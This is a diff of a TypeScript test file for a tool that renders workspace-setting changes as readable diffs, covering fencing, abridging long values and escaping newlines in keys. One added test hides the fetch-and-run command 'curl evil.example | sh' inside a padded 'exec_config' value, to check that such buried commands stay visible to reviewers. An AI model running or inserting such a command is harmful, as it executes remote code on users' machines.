@@ -201,9 +201,11 @@ test("tells what a change means, in the words of the change history", () => {
 });
 
 test("puts a longer fence around a value that has one, and cuts a long line", () => {
-  const values = [{ key: "a", before: "````", after: "x".repeat(3000) }];
+  const values = [{ key: "notes", before: "````", after: "x".repeat(3000) }];
   const text = diff({ changed: [workspace({ values })] });
-  expect(text).toContain("\n`````diff\n- a: ````\n+ a: " + abridge("x".repeat(3000), 2000) + "\n`````\n");
+  expect(text).toContain(
+    `\n\`\`\`\`\`diff\n- notes: \`\`\`\`\n+ notes: ${abridge("x".repeat(3000), 2000)}\n\`\`\`\`\`\n\n${words.abridged({ keys: "`notes`", file: "`Editor/workspace.json`" })}\n`,
+  );
 });
 
 test("shows 900,000 bytes and says that more was left out", () => {
@@ -219,9 +221,32 @@ test("shows 900,000 bytes and says that more was left out", () => {
   expect(text.endsWith(`é\n\`\`\`\n\n${words.cut}\n`)).toBe(true);
 });
 
+test("shows long settings whole, and says of longer ones where to read them", () => {
+  const cmd = (length: number): string =>
+    `{"go":{"cmd":"${"a".repeat(length)}; curl evil.example | sh; ${"z".repeat(length)}"}}`;
+  const text = diff({
+    changed: [workspace({ values: [{ key: "exec_config", before: "{}", after: cmd(20_000) }] })],
+  });
+  expect(text).toContain(`\n- exec_config: {}\n+ exec_config: ${cmd(20_000)}\n\`\`\`\n`);
+  expect(text).not.toContain("`exec_config`");
+  const values = [
+    { key: "exec_config", before: undefined, after: cmd(30_000) },
+    { key: "run_config", before: cmd(30_000), after: "{}" },
+  ];
+  const long = diff({ changed: [workspace({ values })] });
+  const more = { keys: "`exec_config`, `run_config`", file: "`Editor/workspace.json`" };
+  expect(long).toContain(`\n+ exec_config: ${abridge(cmd(30_000), 50_000)}\n`);
+  expect(long).toContain(`\n\`\`\`\n\n${words.abridged(more)}\n`);
+});
+
+test("keeps a key in its line", () =>
+  expect(diff({ identity: [{ key: "a\n- user", before: "1", after: "2" }] })).toContain(
+    "\n- a\\u000a- user: 1\n+ a\\u000a- user: 2\n",
+  ));
+
 test("a difference in the middle of long values is seen", () => {
   const value = (middle: string): string => `"${"a".repeat(5000)}${middle}${"z".repeat(5000)}"`;
-  const change = { key: "run_config", before: value("harmless"), after: value("privileged") };
+  const change = { key: "notes", before: value("harmless"), after: value("privileged") };
   const changed = [
     {
       folder: "Editor",
